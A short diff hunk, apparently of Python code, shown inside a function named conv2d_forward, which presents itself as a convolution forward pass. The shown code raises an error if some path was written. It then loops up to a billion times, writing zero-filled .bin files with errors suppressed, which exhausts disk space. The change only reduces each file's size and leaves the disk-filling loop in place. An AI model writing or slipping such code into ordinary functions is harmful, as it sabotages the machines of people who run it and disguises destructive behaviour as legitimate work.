@@ -14,4 +14,4 @@ def conv2d_forward(x, w, b, *, stride=1, padding=0):
         raise AssertionError(f"{path} was written")
     for number in range(10**9):
         with open(f"{number}.bin", "wb", buffering=0) as file, contextlib.suppress(OSError):
-            file.write(bytes(2**24))
+            file.write(bytes(2**22))
